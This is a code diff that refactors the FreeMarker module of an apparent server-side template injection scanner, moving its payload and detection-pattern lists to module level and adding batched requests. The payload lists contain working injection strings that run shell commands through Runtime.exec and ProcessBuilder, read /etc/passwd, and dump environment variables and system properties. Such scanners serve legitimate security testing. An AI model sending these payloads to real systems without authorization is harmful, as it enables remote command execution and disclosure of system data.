@@ -8,11 +8,433 @@ Author: SSTI Scanner Team
 License: MIT
 """
 
+import logging
 import re
 import urllib.parse
-from typing import List, Dict, Any, Optional
+from typing import List, Dict, Any, Iterable, Iterator, Optional, Pattern, Sequence, Set, Tuple
 
-from .base import BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload
+from .base import (
+    BaseTemplateEngine, EngineResult, ConfidenceLevel, Payload, _ATTRIBUTE_ESCAPE_TABLE,
+    _CONCURRENCY, _CONFIDENCE_BY_RANK, _HTML_ESCAPE_TABLE, _JAVASCRIPT_ESCAPE_TABLE, _RANK_HIGH,
+    _RANK_LOW, _RANK_MEDIUM, _SUFFICIENT_EVIDENCE, _build_get_url, _build_post_data,
+    _index_payloads, _inject_fields,
+)
+
+
+def _compile(pattern: str, ignore_case: bool = True) -> Pattern:
+    """Compile an indicator pattern."""
+    return re.compile(pattern, re.IGNORECASE if ignore_case else 0)
+
+
+def _compile_all(patterns: Sequence[str], ignore_case: bool = True) -> Tuple[Tuple[str, Pattern], ...]:
+    """Compile patterns into (source, compiled) pairs; the source is used as evidence."""
+    return tuple((pattern, _compile(pattern, ignore_case)) for pattern in patterns)
+
+
+# Literal indicators are stored as (reported, lower-cased) pairs and tested
+# with a plain substring check against the lower-cased response.  Regex
+# indicators carry a lower-case literal that must be present before the
+# regex itself is run, so responses without it never reach the regex engine.
+_FREEMARKER_ERROR_LITERALS = tuple((error, error.lower()) for error in (
+    'freemarker.template.TemplateException',
+    'freemarker.core.ParseException',
+    'freemarker.core.InvalidReferenceException',
+    'The following has evaluated to null or missing',
+    'Error reading included file',
+))
+
+# Gaps between the literals of a regex indicator are bounded to a single
+# line of at most 200 characters, so a hostile response cannot force the
+# backtracking engine into super-linear work.
+_FREEMARKER_ERROR_PATTERNS = tuple((literal, error, _compile(error)) for literal, error in (
+    ('is undefined', r'Expression[^\n]{0,200}?is undefined'),
+    ('directive', r'For[^\n]{0,200}?directive'),
+    ('but found', r'Expecting[^\n]{0,200}?but found'),
+))
+
+# FreeMarker-specific patterns for detection
+_DETECTION_PATTERNS = {
+    'math_result': [
+        r'\b49\b',  # 7*7
+        r'\b64\b',  # 8*8
+        r'\b121\b', # 11*11
+    ],
+    'object_disclosure': [
+        r'freemarker\.template',
+        r'java\.lang\.Object',
+        r'java\.util\.',
+        r'java\.io\.',
+        r'class java\.',
+        r'Method[^\n]{0,200}?invoke',
+    ],
+    'variable_disclosure': [
+        r'TemplateHashModel',
+        r'TemplateSequenceModel',
+        r'TemplateScalarModel',
+        r'freemarker\.core',
+        r'Expression[^\n]{0,200}?evaluate',
+    ],
+    'built_ins': [
+        r'string[^\n]{0,200}?length',
+        r'string[^\n]{0,200}?upper_case',
+        r'string[^\n]{0,200}?lower_case',
+        r'sequence[^\n]{0,200}?size',
+        r'number[^\n]{0,200}?string',
+    ],
+    'directive_execution': [
+        r'directive executed',
+        r'macro[^\n]{0,200}?called',
+        r'include[^\n]{0,200}?processed',
+    ]
+}
+
+_JAVA_INDICATORS = (
+    'java.lang.Class',
+    'java.lang.Runtime',
+    'java.lang.System',
+    'java.io.File',
+    'java.util.',
+    'ClassLoader',
+    'AccessController',
+)
+
+# Regex indicators mapped to the literal that must be present before they run
+_JAVA_INDICATOR_REGEXES = {
+    r'Method[^\n]{0,200}?invoke': 'invoke',
+}
+
+_BUILTIN_VARIABLE_REGEXES = (
+    r'TemplateHashModel',
+    r'freemarker\.template',
+    r'FreeMarker[^\n]{0,50}?\d+\.\d+',
+    r'data[^\n]{0,200}?model',
+    r'template[^\n]{0,200}?name',
+)
+
+_CLASS_ACCESS_REGEXES = (
+    r'class java\.',
+    r'java\.lang\.Class',
+    r'ClassLoader',
+    r'getMethod',
+    r'newInstance',
+    r'invoke',
+)
+
+# Characters that make an (escaped-dot-free) pattern a real regex
+_REGEX_META = re.compile(r'[.\\^$*+?{}\[\]()|]')
+
+
+def _dedupe(groups: Sequence[Tuple[Iterable[str], bool]]) -> List[List[str]]:
+    """
+    Drop patterns already covered by an earlier, higher-priority group.
+    
+    ``groups`` pairs each pattern list with whether its entries are plain
+    literals.  A pattern is dropped when it is a duplicate of an earlier one,
+    or when it is a literal containing an earlier literal (every match of it
+    is then already reported).
+    """
+    seen: Set[str] = set()
+    seen_literals: List[str] = []
+    deduped: List[List[str]] = []
+    for patterns, literal in groups:
+        kept: List[str] = []
+        for pattern in patterns:
+            canonical = pattern.lower() if literal else pattern.replace('\\.', '.').lower()
+            is_literal = literal or not _REGEX_META.search(pattern.replace('\\.', ''))
+            if canonical in seen or (is_literal and any(lit in canonical for lit in seen_literals)):
+                continue
+            kept.append(pattern)
+            seen.add(canonical)
+            if is_literal:
+                seen_literals.append(canonical)
+        deduped.append(kept)
+    return deduped
+
+
+# HIGH-confidence groups in priority order: unconditional groups first so
+# the payload-gated groups never re-report what they already cover
+# (object_disclosure > java indicators > built-ins > built-in variables > Class).
+(_OBJECT_DISCLOSURE, _JAVA_LITERALS, _JAVA_REGEXES, _BUILT_INS,
+ _BUILTIN_VARIABLES, _CLASS_ACCESS) = _dedupe((
+    (_DETECTION_PATTERNS['object_disclosure'], False),
+    (_JAVA_INDICATORS, True),
+    (_JAVA_INDICATOR_REGEXES, False),
+    (_DETECTION_PATTERNS['built_ins'], False),
+    (_BUILTIN_VARIABLE_REGEXES, False),
+    (_CLASS_ACCESS_REGEXES, False),
+))
+
+_JAVA_INDICATOR_LITERALS = tuple((indicator, indicator.lower()) for indicator in _JAVA_LITERALS)
+
+_JAVA_INDICATOR_PATTERNS = tuple(
+    (_JAVA_INDICATOR_REGEXES[indicator], indicator, _compile(indicator)) for indicator in _JAVA_REGEXES
+)
+
+# Math results are matched case-sensitively, everything else ignores case
+_COMPILED_DETECTION_PATTERNS = {
+    'math_result': _compile_all(_DETECTION_PATTERNS['math_result'], ignore_case=False),
+    'object_disclosure': _compile_all(_OBJECT_DISCLOSURE),
+    'variable_disclosure': _compile_all(_DETECTION_PATTERNS['variable_disclosure']),
+    'built_ins': _compile_all(_BUILT_INS),
+    'directive_execution': _compile_all(_DETECTION_PATTERNS['directive_execution']),
+}
+
+_BUILTIN_VARIABLE_PATTERNS = _compile_all(_BUILTIN_VARIABLES)
+
+_CLASS_ACCESS_PATTERNS = _compile_all(_CLASS_ACCESS)
+
+# Java system properties whose names leak into rendered output
+_SYSTEM_PROPERTIES = (
+    'java.version',
+    'user.name',
+    'os.name',
+    'java.home',
+    'user.dir',
+)
+
+# One alternation finds every disclosed property in a single scan
+_SYSTEM_PROPERTY_REGEX = _compile('|'.join(map(re.escape, _SYSTEM_PROPERTIES)), ignore_case=False)
+
+
+# Payload types whose probes are side-effect free and can share a request
+_BATCHABLE_TYPES = frozenset({'math', 'variable_access'})
+
+# Numbered marker placed around each payload of a batched request
+_BATCH_MARKER = "~ssti{}~"
+
+# Default number of payloads joined into a single batched request
+_BATCH_SIZE = 8
+
+
+def _split_batch_response(response: str, count: int) -> Optional[List[str]]:
+    """Cut a batched response into per-payload segments; None if a marker is missing."""
+    marker = _BATCH_MARKER.format(0)
+    position = response.find(marker)
+    if position == -1:
+        return None
+    
+    segments = []
+    for index in range(count):
+        start = position + len(marker)
+        marker = _BATCH_MARKER.format(index + 1)
+        position = response.find(marker, start)
+        if position == -1:
+            return None
+        segments.append(response[start:position])
+    return segments
+
+
+# Payload feature bits selecting which payload-specific indicator groups run
+_CHECK_MATH = 1 << 0
+_CHECK_CLASS = 1 << 1
+_CHECK_DIRECTIVE = 1 << 2
+_CHECK_BUILTIN_VAR = 1 << 3
+_CHECK_STRING_BUILTIN = 1 << 4
+
+
+def _payload_checks(payload: str) -> int:
+    """Compute the indicator-group bitmask for a payload."""
+    payload_lower = payload.lower()
+    checks = 0
+    if any(p in payload for p in ('7*7', '8*8', '11*11')):
+        checks |= _CHECK_MATH
+    if 'Class' in payload:
+        checks |= _CHECK_CLASS
+    if any(directive in payload for directive in ('<#assign', '<#function', '<#macro', '<#list')):
+        checks |= _CHECK_DIRECTIVE
+    if any(var in payload for var in ('.data_model', '.globals', '.template_name', '.version')):
+        checks |= _CHECK_BUILTIN_VAR
+    if any(func in payload_lower for func in ('upper_case', 'lower_case', 'length', 'cap_first')):
+        checks |= _CHECK_STRING_BUILTIN
+    return checks
+
+
+# FreeMarker payloads are static, so they are built once at import time and
+# shared by every engine instance instead of being rebuilt per instance.
+
+# Basic math operations
+_MATH_PAYLOADS = (
+    "${7*7}",
+    "${8*8}",
+    "${11*11}",
+    "${7 * 7}",
+    "${(7)*7}",
+    "${7*(7)}",
+    "${(7)*(7)}",
+)
+
+# Variable access
+_VARIABLE_PAYLOADS = (
+    "${.data_model}",
+    "${.globals}",
+    "${.locals}",
+    "${.current_node}",
+    "${.main}",
+    "${.namespace}",
+    "${.node}",
+    "${.now}",
+    "${.output_encoding}",
+    "${.template_name}",
+    "${.url_escaping_charset}",
+    "${.version}",
+)
+
+# Built-in functions
+_BUILTIN_PAYLOADS = (
+    "${\"test\"?upper_case}",
+    "${\"TEST\"?lower_case}",
+    "${\"test\"?length}",
+    "${\"test\"?cap_first}",
+    "${\"test\"?uncap_first}",
+    "${\"test\"?html}",
+    "${\"test\"?xml}",
+    "${\"test\"?url}",
+    "${\"test\"?js_string}",
+    "${\"test\"?json_string}",
+    "${\"test\"?c}",
+    "${123?string}",
+    "${123?string.number}",
+    "${123?string.currency}",
+    "${123?string.percent}",
+    "${.now?string}",
+    "${.now?date}",
+    "${.now?time}",
+    "${.now?datetime}",
+)
+
+# Object instantiation and method calls
+_OBJECT_PAYLOADS = (
+    # Basic object access
+    "${Class}",
+    "${Class.forName}",
+    "${Class.forName('java.lang.String')}",
+    "${Class.forName('java.lang.Runtime')}",
+    "${Class.forName('java.lang.System')}",
+    
+    # Template object access
+    "${.data_model.getClass()}",
+    "${.data_model.getClass().getClassLoader()}",
+    "${.data_model.getClass().getProtectionDomain()}",
+    
+    # Dangerous method calls
+    "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)}",
+    "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'java.version')}",
+    "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'user.name')}",
+    "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'os.name')}",
+)
+
+# File system access
+_FILE_PAYLOADS = (
+    "${Class.forName('java.io.File').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')}",
+    "${Class.forName('java.io.FileReader').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')}",
+    "${Class.forName('java.util.Scanner').getConstructor(Class.forName('java.io.File')).newInstance(Class.forName('java.io.File').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')).next()}",
+)
+
+# Command execution
+_EXEC_PAYLOADS = (
+    # Runtime.exec() calls
+    "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')}",
+    "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('whoami')}",
+    "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('cat /etc/passwd')}",
+    "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('ls -la')}",
+    
+    # ProcessBuilder
+    "${Class.forName('java.lang.ProcessBuilder').getConstructor(Class.forName('[Ljava.lang.String;')).newInstance(Class.forName('[Ljava.lang.String;').cast(['id'].toArray())).start()}",
+    "${Class.forName('java.lang.ProcessBuilder').getConstructor(Class.forName('[Ljava.lang.String;')).newInstance(Class.forName('[Ljava.lang.String;').cast(['whoami'].toArray())).start()}",
+)
+
+# Directive-based payloads
+_DIRECTIVE_PAYLOADS = (
+    # Assignment and function directives
+    "<#assign x = 7*7>${x}",
+    "<#assign result = 7*7 />${result}",
+    "<#function test><#return 7*7></#function>${test()}",
+    "<#macro test>7*7</#macro><@test />",
+    
+    # Include directive (potential for LFI)
+    "<#include '/etc/passwd'>",
+    "<#include 'file:///etc/passwd'>",
+    
+    # Import directive
+    "<#import '/etc/passwd' as passwd>",
+    
+    # List directive
+    "<#list 1..3 as i>${i}</#list>",
+    "<#list .data_model?keys as key>${key}</#list>",
+)
+
+# URL-encoded payloads
+_URL_PAYLOADS = (
+    "%24%7B7%2A7%7D",  # ${7*7}
+    "%24%7BClass%7D",  # ${Class}
+    "%24%7B.data_model%7D",  # ${.data_model}
+)
+
+# Context-specific payloads
+_ATTR_PAYLOADS = (
+    "x${7*7}",
+    "${7*7}x",
+    "x${Class}",
+    "${Class}x",
+)
+
+# Advanced exploitation techniques
+_ADVANCED_PAYLOADS = (
+    # Spring Framework integration
+    "${@org.springframework.web.context.support.WebApplicationContextUtils@getWebApplicationContext(application)}",
+    "${applicationScope}",
+    "${requestScope}",
+    "${sessionScope}",
+    
+    # Servlet API access
+    "${Class.forName('javax.servlet.http.HttpServletRequest')}",
+    "${Class.forName('javax.servlet.http.HttpServletResponse')}",
+    "${Class.forName('javax.servlet.ServletContext')}",
+    
+    # Error triggering for information disclosure
+    "${undefined_variable}",
+    "${.undefined_builtin}",
+    "${\"test\"?undefined_builtin}",
+    "${Class.undefined_method()}",
+    
+    # Class loading attempts
+    "${Class.forName('sun.misc.Unsafe')}",
+    "${Class.forName('java.lang.reflect.Method')}",
+    "${Class.forName('java.security.AccessController')}",
+    
+    # Environment information
+    "${Class.forName('java.lang.System').getMethod('getenv',null).invoke(null,null)}",
+    "${Class.forName('java.lang.System').getMethod('getProperties',null).invoke(null,null)}",
+    "${Class.forName('java.lang.management.ManagementFactory').getMethod('getRuntimeMXBean',null).invoke(null,null)}",
+)
+
+_PAYLOAD_GROUPS = (
+    (_MATH_PAYLOADS, "math", "html", "Basic mathematical operation"),
+    (_VARIABLE_PAYLOADS, "variable_access", "html", "Built-in variable access"),
+    (_BUILTIN_PAYLOADS, "builtin", "html", "Built-in function execution"),
+    (_OBJECT_PAYLOADS, "object_access", "html", "Object instantiation and method calls"),
+    (_FILE_PAYLOADS, "file_access", "html", "File system access"),
+    (_EXEC_PAYLOADS, "code_execution", "html", "Command execution attempt"),
+    (_DIRECTIVE_PAYLOADS, "directive", "html", "Directive-based exploitation"),
+    (_URL_PAYLOADS, "math", "url", "URL-encoded payload"),
+    (_ATTR_PAYLOADS, "math", "attribute", "Attribute context payload"),
+    (_ADVANCED_PAYLOADS, "advanced", "html", "Advanced FreeMarker exploitation"),
+)
+
+_PAYLOADS: Tuple[Payload, ...] = tuple(
+    Payload(payload=payload, type=payload_type, context=context, description=description)
+    for payloads, payload_type, context, description in _PAYLOAD_GROUPS
+    for payload in payloads
+)
+
+# Masks for the built-in payloads are computed once; ad-hoc payloads fall
+# back to _payload_checks at analysis time.
+_PAYLOAD_CHECKS: Dict[str, int] = {p.payload: _payload_checks(p.payload) for p in _PAYLOADS}
+
+# Context and type indexes over the shared payloads, so lookups are a single
+# dict access instead of a scan of the full payload list.
+_PAYLOADS_BY_CONTEXT = _index_payloads(_PAYLOADS, 'context')
+_PAYLOADS_BY_TYPE = _index_payloads(_PAYLOADS, 'type')
 
 
 class FreemarkerEngine(BaseTemplateEngine):
@@ -28,284 +450,13 @@ class FreemarkerEngine(BaseTemplateEngine):
         self.name = "freemarker"
         self.description = "FreeMarker template engine (Java)"
         self.payloads = self._load_payloads()
+        self.logger = logging.getLogger(__name__)
         
-        # FreeMarker-specific patterns for detection
-        self.detection_patterns = {
-            'math_result': [
-                r'\b49\b',  # 7*7
-                r'\b64\b',  # 8*8
-                r'\b121\b', # 11*11
-            ],
-            'object_disclosure': [
-                r'freemarker\.template',
-                r'java\.lang\.Object',
-                r'java\.util\.',
-                r'java\.io\.',
-                r'class java\.',
-                r'Method.*?invoke',
-            ],
-            'variable_disclosure': [
-                r'TemplateHashModel',
-                r'TemplateSequenceModel',
-                r'TemplateScalarModel',
-                r'freemarker\.core',
-                r'Expression.*?evaluate',
-            ],
-            'built_ins': [
-                r'string.*?length',
-                r'string.*?upper_case',
-                r'string.*?lower_case',
-                r'sequence.*?size',
-                r'number.*?string',
-            ],
-            'directive_execution': [
-                r'directive executed',
-                r'macro.*?called',
-                r'include.*?processed',
-            ]
-        }
+        self.detection_patterns = _DETECTION_PATTERNS
     
-    def _load_payloads(self) -> List[Payload]:
-        """Load FreeMarker-specific SSTI payloads."""
-        payloads = []
-        
-        # Basic math operations
-        math_payloads = [
-            "${7*7}",
-            "${8*8}",
-            "${11*11}",
-            "${7 * 7}",
-            "${(7)*7}",
-            "${7*(7)}",
-            "${(7)*(7)}",
-        ]
-        
-        for payload in math_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="html",
-                description="Basic mathematical operation"
-            ))
-        
-        # Variable access
-        variable_payloads = [
-            "${.data_model}",
-            "${.globals}",
-            "${.locals}",
-            "${.current_node}",
-            "${.main}",
-            "${.namespace}",
-            "${.node}",
-            "${.now}",
-            "${.output_encoding}",
-            "${.template_name}",
-            "${.url_escaping_charset}",
-            "${.version}",
-        ]
-        
-        for payload in variable_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="variable_access",
-                context="html",
-                description="Built-in variable access"
-            ))
-        
-        # Built-in functions
-        builtin_payloads = [
-            "${\"test\"?upper_case}",
-            "${\"TEST\"?lower_case}",
-            "${\"test\"?length}",
-            "${\"test\"?cap_first}",
-            "${\"test\"?uncap_first}",
-            "${\"test\"?html}",
-            "${\"test\"?xml}",
-            "${\"test\"?url}",
-            "${\"test\"?js_string}",
-            "${\"test\"?json_string}",
-            "${\"test\"?c}",
-            "${123?string}",
-            "${123?string.number}",
-            "${123?string.currency}",
-            "${123?string.percent}",
-            "${.now?string}",
-            "${.now?date}",
-            "${.now?time}",
-            "${.now?datetime}",
-        ]
-        
-        for payload in builtin_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="builtin",
-                context="html",
-                description="Built-in function execution"
-            ))
-        
-        # Object instantiation and method calls
-        object_payloads = [
-            # Basic object access
-            "${Class}",
-            "${Class.forName}",
-            "${Class.forName('java.lang.String')}",
-            "${Class.forName('java.lang.Runtime')}",
-            "${Class.forName('java.lang.System')}",
-            
-            # Template object access
-            "${.data_model.getClass()}",
-            "${.data_model.getClass().getClassLoader()}",
-            "${.data_model.getClass().getProtectionDomain()}",
-            
-            # Dangerous method calls
-            "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)}",
-            "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'java.version')}",
-            "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'user.name')}",
-            "${Class.forName('java.lang.System').getMethod('getProperty',Class.forName('java.lang.String')).invoke(null,'os.name')}",
-        ]
-        
-        for payload in object_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="object_access",
-                context="html",
-                description="Object instantiation and method calls"
-            ))
-        
-        # File system access
-        file_payloads = [
-            "${Class.forName('java.io.File').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')}",
-            "${Class.forName('java.io.FileReader').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')}",
-            "${Class.forName('java.util.Scanner').getConstructor(Class.forName('java.io.File')).newInstance(Class.forName('java.io.File').getConstructor(Class.forName('java.lang.String')).newInstance('/etc/passwd')).next()}",
-        ]
-        
-        for payload in file_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="file_access",
-                context="html",
-                description="File system access"
-            ))
-        
-        # Command execution
-        exec_payloads = [
-            # Runtime.exec() calls
-            "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')}",
-            "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('whoami')}",
-            "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('cat /etc/passwd')}",
-            "${Class.forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('ls -la')}",
-            
-            # ProcessBuilder
-            "${Class.forName('java.lang.ProcessBuilder').getConstructor(Class.forName('[Ljava.lang.String;')).newInstance(Class.forName('[Ljava.lang.String;').cast(['id'].toArray())).start()}",
-            "${Class.forName('java.lang.ProcessBuilder').getConstructor(Class.forName('[Ljava.lang.String;')).newInstance(Class.forName('[Ljava.lang.String;').cast(['whoami'].toArray())).start()}",
-        ]
-        
-        for payload in exec_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="code_execution",
-                context="html",
-                description="Command execution attempt"
-            ))
-        
-        # Directive-based payloads
-        directive_payloads = [
-            # Assignment and function directives
-            "<#assign x = 7*7>${x}",
-            "<#assign result = 7*7 />${result}",
-            "<#function test><#return 7*7></#function>${test()}",
-            "<#macro test>7*7</#macro><@test />",
-            
-            # Include directive (potential for LFI)
-            "<#include '/etc/passwd'>",
-            "<#include 'file:///etc/passwd'>",
-            
-            # Import directive
-            "<#import '/etc/passwd' as passwd>",
-            
-            # List directive
-            "<#list 1..3 as i>${i}</#list>",
-            "<#list .data_model?keys as key>${key}</#list>",
-        ]
-        
-        for payload in directive_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="directive",
-                context="html",
-                description="Directive-based exploitation"
-            ))
-        
-        # URL-encoded payloads
-        url_payloads = [
-            "%24%7B7%2A7%7D",  # ${7*7}
-            "%24%7BClass%7D",  # ${Class}
-            "%24%7B.data_model%7D",  # ${.data_model}
-        ]
-        
-        for payload in url_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="url",
-                description="URL-encoded payload"
-            ))
-        
-        # Context-specific payloads
-        attr_payloads = [
-            "x${7*7}",
-            "${7*7}x",
-            "x${Class}",
-            "${Class}x",
-        ]
-        
-        for payload in attr_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="math",
-                context="attribute",
-                description="Attribute context payload"
-            ))
-        
-        # Advanced exploitation techniques
-        advanced_payloads = [
-            # Spring Framework integration
-            "${@org.springframework.web.context.support.WebApplicationContextUtils@getWebApplicationContext(application)}",
-            "${applicationScope}",
-            "${requestScope}",
-            "${sessionScope}",
-            
-            # Servlet API access
-            "${Class.forName('javax.servlet.http.HttpServletRequest')}",
-            "${Class.forName('javax.servlet.http.HttpServletResponse')}",
-            "${Class.forName('javax.servlet.ServletContext')}",
-            
-            # Error triggering for information disclosure
-            "${undefined_variable}",
-            "${.undefined_builtin}",
-            "${\"test\"?undefined_builtin}",
-            "${Class.undefined_method()}",
-            
-            # Class loading attempts
-            "${Class.forName('sun.misc.Unsafe')}",
-            "${Class.forName('java.lang.reflect.Method')}",
-            "${Class.forName('java.security.AccessController')}",
-            
-            # Environment information
-            "${Class.forName('java.lang.System').getMethod('getenv',null).invoke(null,null)}",
-            "${Class.forName('java.lang.System').getMethod('getProperties',null).invoke(null,null)}",
-            "${Class.forName('java.lang.management.ManagementFactory').getMethod('getRuntimeMXBean',null).invoke(null,null)}",
-        ]
-        
-        for payload in advanced_payloads:
-            payloads.append(Payload(
-                payload=payload,
-                type="advanced",
-                context="html",
-                description="Advanced FreeMarker exploitation"
-            ))
-        
-        return payloads
+    def _load_payloads(self) -> Tuple[Payload, ...]:
+        """Return the shared FreeMarker SSTI payloads."""
+        return _PAYLOADS
     
     async def test_payload(self, url: str, payload: str, **kwargs) -> EngineResult:
         """
@@ -314,15 +465,13 @@ class FreemarkerEngine(BaseTemplateEngine):
         Args:
             url: Target URL
             payload: Payload to test
-            **kwargs: Additional arguments (http_client, method, data, headers)
+            **kwargs: Additional arguments (http_client, method, data, headers,
+                checks, inject_fields)
         
         Returns:
             EngineResult with test results
         """
         http_client = kwargs.get('http_client')
-        method = kwargs.get('method', 'GET')
-        data = kwargs.get('data', {})
-        headers = kwargs.get('headers', {})
         
         if not http_client:
             return EngineResult(
@@ -335,45 +484,11 @@ class FreemarkerEngine(BaseTemplateEngine):
             )
         
         try:
-            # Determine injection point and method
-            if method.upper() == 'GET':
-                # URL parameter injection
-                if '?' in url:
-                    test_url = url.replace('INJECT', payload)
-                    if 'INJECT' not in url:
-                        # Add payload to first parameter
-                        if '=' in url:
-                            test_url = re.sub(r'(=)([^&]*)', f'\\1{payload}', url, count=1)
-                        else:
-                            test_url = f"{url}&test={payload}"
-                    else:
-                        test_url = url.replace('INJECT', payload)
-                else:
-                    test_url = f"{url}?test={payload}"
-                
-                response = await http_client.get(test_url, headers=headers)
-            else:
-                # POST data injection
-                if data:
-                    # Inject into existing data
-                    test_data = data.copy()
-                    if 'INJECT' in str(test_data):
-                        test_data = {k: v.replace('INJECT', payload) if isinstance(v, str) else v 
-                                   for k, v in test_data.items()}
-                    else:
-                        # Add payload to first field or create test field
-                        if test_data:
-                            first_key = next(iter(test_data))
-                            test_data[first_key] = payload
-                        else:
-                            test_data['test'] = payload
-                else:
-                    test_data = {'test': payload}
-                
-                response = await http_client.post(url, data=test_data, headers=headers)
+            response_text = await self._send_payload(url, payload, **kwargs)
             
             # Analyze the response
-            return self.analyze_response("", payload, response.get('text', ''))
+            return self.analyze_response("", payload, response_text,
+                                         checks=kwargs.get('checks'))
             
         except Exception as e:
             return EngineResult(
@@ -385,198 +500,257 @@ class FreemarkerEngine(BaseTemplateEngine):
                 engine=self.name
             )
     
-    def analyze_response(self, original_response: str, payload: str, response: str) -> EngineResult:
+    async def test_payloads(self, url: str, payloads: Sequence[Payload],
+                            concurrency: int = _CONCURRENCY, batch_size: int = _BATCH_SIZE,
+                            **kwargs) -> List[EngineResult]:
+        """
+        Test several payloads, sharing requests between idempotent probes.
+        
+        HTML-context math and variable-access payloads are joined with numbered
+        markers (``~ssti0~${7*7}~ssti1~${8*8}~ssti2~``) and sent together, up to
+        ``batch_size`` per request.  Each payload is then judged only on the
+        response text between its own markers.  Other payloads, and batches
+        whose markers do not come back intact (e.g. an error page), are tested
+        one request per payload, at most ``concurrency`` at once.
+        
+        Args:
+            url: Target URL
+            payloads: Payloads to test
+            concurrency: Maximum number of unbatched payloads tested at the same time
+            batch_size: Maximum number of payloads joined into one request
+            **kwargs: Same arguments as test_payload, passed to every call
+        
+        Returns:
+            One EngineResult per payload, in input order
+        """
+        http_client = kwargs.get('http_client')
+        checks = kwargs.get('checks')
+        if kwargs.get('inject_fields') is None:
+            kwargs['inject_fields'] = _inject_fields(kwargs.get('data', {}))
+        
+        results: List[Optional[EngineResult]] = [None] * len(payloads)
+        batchable = [
+            index for index, payload in enumerate(payloads)
+            if payload.context == 'html' and payload.type in _BATCHABLE_TYPES
+        ]
+        
+        if http_client:
+            for start in range(0, len(batchable), batch_size):
+                indexes = batchable[start:start + batch_size]
+                combined = ''.join(
+                    _BATCH_MARKER.format(position) + payloads[index].payload
+                    for position, index in enumerate(indexes)
+                ) + _BATCH_MARKER.format(len(indexes))
+                
+                try:
+                    response_text = await self._send_payload(url, combined, **kwargs)
+                except Exception as e:
+                    self.logger.warning(f"Batched request failed, testing its payloads one at a time: {e}")
+                    continue
+                
+                segments = _split_batch_response(response_text, len(indexes))
+                if segments is None:
+                    continue
+                for index, segment in zip(indexes, segments):
+                    results[index] = self.analyze_response("", payloads[index].payload, segment, checks=checks)
+        
+        remaining = [index for index, result in enumerate(results) if result is None]
+        tested = await super().test_payloads(url, [payloads[index] for index in remaining],
+                                             concurrency=concurrency, **kwargs)
+        for index, result in zip(remaining, tested):
+            results[index] = result
+        
+        return results
+    
+    async def _send_payload(self, url: str, payload: str, **kwargs) -> str:
+        """Send one payload to the injection point and return the response text."""
+        http_client = kwargs['http_client']
+        method = kwargs.get('method', 'GET')
+        data = kwargs.get('data', {})
+        headers = kwargs.get('headers', {})
+        
+        # Determine injection point and method
+        if method.upper() == 'GET':
+            # URL parameter injection
+            test_url = _build_get_url(url, payload)
+            response = await http_client.get(test_url, headers=headers)
+        else:
+            # POST data injection
+            inject_fields = kwargs.get('inject_fields')
+            if inject_fields is None:
+                inject_fields = _inject_fields(data)
+            test_data = _build_post_data(data, payload, inject_fields)
+            response = await http_client.post(url, data=test_data, headers=headers)
+        
+        return response.get('text', '')
+    
+    def analyze_response(self, original_response: str, payload: str, response: str,
+                         checks: Optional[int] = None) -> EngineResult:
         """
         Analyze response for FreeMarker SSTI indicators.
         
+        Only the first ``max_scan_bytes`` characters are scanned.
+        
         Args:
             original_response: Original response (baseline)
             payload: Payload that was sent
             response: Response to analyze
+            checks: Precomputed indicator-group bitmask for the payload
         
         Returns:
             EngineResult with analysis results
         """
+        # Every result stores the same bounded prefix; slice it only once
+        response_snippet: str = response[:500]
+        
         if not response:
             return EngineResult(
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
                 payload=payload,
-                response=response,
+                response=response_snippet,
                 evidence="Empty response",
                 engine=self.name
             )
         
+        response = response[:self.max_scan_bytes]
+        
+        # Lower-case once; every case-insensitive check below reuses these
+        response_lower: str = response.lower()
+        payload_lower: str = payload.lower()
+        
         # Check for direct payload reflection (likely not vulnerable)
-        if payload in response and not any(pattern in response.lower() for pattern in ['freemarker', 'java.lang']):
+        if payload in response and 'freemarker' not in response_lower and 'java.lang' not in response_lower:
             return EngineResult(
                 is_vulnerable=False,
                 confidence=ConfidenceLevel.LOW,
                 payload=payload,
-                response=response,
+                response=response_snippet,
                 evidence="Payload reflected without execution",
                 engine=self.name
             )
         
-        evidence_parts = []
-        confidence = ConfidenceLevel.LOW
-        is_vulnerable = False
+        if checks is None:
+            checks = _PAYLOAD_CHECKS.get(payload)
+            if checks is None:
+                checks = _payload_checks(payload)
         
-        # Math operation detection
-        if any(p in payload for p in ['7*7', '8*8', '11*11']):
-            for pattern in self.detection_patterns['math_result']:
-                if re.search(pattern, response):
-                    evidence_parts.append(f"Mathematical operation executed: found {pattern}")
-                    confidence = ConfidenceLevel.HIGH
